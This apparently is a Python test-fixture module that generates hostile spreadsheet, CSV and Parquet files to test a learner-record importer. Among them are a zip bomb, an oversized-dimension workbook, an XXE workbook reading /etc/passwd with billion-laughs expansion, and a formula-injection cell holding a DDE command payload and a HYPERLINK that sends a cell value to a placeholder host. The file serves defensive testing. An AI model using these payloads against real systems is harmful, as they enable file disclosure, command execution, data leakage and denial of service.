"""Hostile files, generated small on disk: workbooks written part by part (so that any part can
lie), CSVs and Parquet files that attack their reader. Each builder returns the path it wrote."""

from __future__ import annotations

import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import polars as pl

from tests.imports.samples import BASE

LEARNER = BASE["learners"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}">'
        '<sheets><sheet name="learners" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}


def column(index: int) -> str:
    """0 → A, 16383 → XFD."""
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def learner_rows(*overrides: dict[str, str]) -> str:
    """The sheet rows of a header and one learner per override (sheet row 1 = header)."""
    rows = [list(LEARNER)] + [list((LEARNER | o).values()) for o in overrides or ({},)]
    return "".join(
        f'<row r="{r}">'
        + "".join(cell(f"{column(c)}{r}", v) for c, v in enumerate(values))
        + "</row>"
        for r, values in enumerate(rows, start=1)
    )


def sheet(rows: str, dimension: str | None = None, prolog: str = "", tail: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}">{dim}'
        f"<sheetData>{rows}{tail}</sheetData></worksheet>"
    ).encode()


def workbook(path: Path, sheet_xml: bytes, parts: dict[str, bytes] | None = None) -> Path:
    """An .xlsx of the standard parts (or `parts` in their place) and the sheet."""
    every = {k: v.encode() for k, v in PARTS.items()}
    every |= {"xl/worksheets/sheet1.xml": sheet_xml, **(parts or {})}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, data in every.items():
            book.writestr(name, data)
    return path


def plain_workbook(path: Path) -> Path:
    width = len(LEARNER)
    return workbook(path, sheet(learner_rows(), f"A1:{column(width - 1)}2"))


def dimension_lie(path: Path) -> Path:
    """What aborted the server: a sheet that claims, and reaches, A1:XFD1048576 (a dense range of
    17 billion cells, 512 GiB to calamine)."""
    far = f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    return workbook(path, sheet(learner_rows(), "A1:XFD1048576", tail=far))


def far_cell(path: Path) -> Path:
    """The same reach behind an honest-looking dimension: only the reader's limits stop it."""
    far = f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    return workbook(path, sheet(learner_rows(), f"A1:{column(len(LEARNER) - 1)}2", tail=far))


def zip_bomb(path: Path, inflated_mb: int = 64) -> Path:
    """A sheet whose cells inflate a thousandfold: a few tens of kilobytes on disk."""
    width = len(LEARNER)
    block = "A" * 8192
    n = (inflated_mb << 20) // (len(block) * 2)
    padding = "".join(
        f'<row r="{3 + i}">{cell(f"A{3 + i}", block)}{cell(f"B{3 + i}", block)}</row>'
        for i in range(n)
    )
    return workbook(path, sheet(learner_rows(), f"A1:{column(width - 1)}{n + 2}", tail=padding))


def large_workbook(path: Path, inflated_mb: int) -> Path:
    """A sheet that is large once inflated without a bomb's ratio (distinct numbered rows)."""
    rows = []
    size, r = 0, 2
    while size < inflated_mb << 20:
        text = (
            f'<row r="{r}">'
            + "".join(cell(f"{column(c)}{r}", f"{r * 7919 + c}") for c in range(8))
            + "</row>"
        )
        rows.append(text)
        size += len(text)
        r += 1
    return workbook(path, sheet(learner_rows() + "".join(rows)))


def xxe_workbook(path: Path, where: str = "xl/worksheets/sheet1.xml") -> Path:
    """A DTD with an external entity (a local file) and an entity expansion (billion laughs)."""
    dtd = (
        '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    if where == "xl/worksheets/sheet1.xml":
        rows = learner_rows({"full_name": "&xxe;&c;"}).replace("&amp;xxe;&amp;c;", "&xxe;&c;")
        return workbook(path, sheet(rows, prolog=dtd))
    body = PARTS[where].replace("?>", "?>" + dtd, 1).encode()
    return workbook(path, sheet(learner_rows()), parts={where: body})


def formula_workbook(path: Path) -> Path:
    """Formula cells whose cached results are formulas themselves (DDE, HYPERLINK)."""
    rows = learner_rows({"student_code": "SV9"})
    payload = "=cmd|' /C calc'!A0"
    hyperlink = 'HYPERLINK("http://x.invalid/?"&amp;B2,"xem")'
    rows = rows.replace(
        cell("C2", LEARNER["full_name"]),
        f'<c r="C2" t="str"><f>{hyperlink}</f><v>{escape(payload)}</v></c>',
    )
    return workbook(path, sheet(rows))


def csv_file(path: Path, *overrides: dict[str, str]) -> Path:
    pl.DataFrame([LEARNER | o for o in overrides or ({},)]).write_csv(path)
    return path


def wide_csv(path: Path, columns: int = 5000) -> Path:
    header = ",".join(LEARNER) + "," + ",".join(f"x{i}" for i in range(columns))
    row = ",".join(LEARNER.values()) + "," * columns
    path.write_text(header + "\n" + row + "\n", encoding="utf-8")
    return path


def one_line_csv(path: Path, fields: int = 1_500_000) -> Path:
    """`a,a,a,…` with no line end: 3 MB, and millions of columns to a reader."""
    path.write_bytes(b"a," * fields)
    return path


def long_cell_csv(path: Path, chars: int = 200_000) -> Path:
    return csv_file(path, {"full_name": "Nguyễn " + "A" * chars})


def non_utf8_csv(path: Path) -> Path:
    text = "\n".join(
        [",".join(LEARNER), ",".join((LEARNER | {"full_name": "日本語の名前"}).values())]
    )
    path.write_bytes(text.encode("shift_jis"))
    return path


def non_utf8_parquet(path: Path) -> Path:
    """A Parquet file whose name column is bytes that are not UTF-8."""
    frame = pl.DataFrame({k: [v] for k, v in LEARNER.items()})
    frame = frame.with_columns(pl.Series("full_name", [b"Nguy\xff\xfe\xc3n"], dtype=pl.Binary))
    frame.write_parquet(path)
    return path
